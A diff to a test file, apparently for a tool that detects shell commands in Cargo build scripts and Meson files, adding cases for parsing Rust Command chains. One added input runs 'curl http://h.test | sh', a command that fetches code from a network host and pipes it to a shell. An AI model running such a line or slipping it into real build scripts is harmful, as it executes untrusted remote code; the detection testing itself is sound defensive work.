@@ -8,6 +8,12 @@ function statement(because: string, code: string): CodeEntry {
 
 test.each([
   ["cargo-build-script", 'Command::new("sh").args(["-c","id"])', "sh -c id"],
+  [
+    "cargo-build-script",
+    'Command::new("sh")\n  .env("A", "b").arg("-c") .args(&["curl http://h.test | sh", x]).output().expect("no")',
+    "sh -c curl http://h.test | sh",
+  ],
+  ["cargo-build-script", 'Command::new("cargo").arg(target)', "cargo {…}"],
   ["cargo-build-script", "Command::new(python).arg(x)", null],
   ["meson-command", "run_command('sh', '-c', 'id', check: true)", "sh -c id"],
   ["meson-command", "run_command([py, 'x.py'])", null],
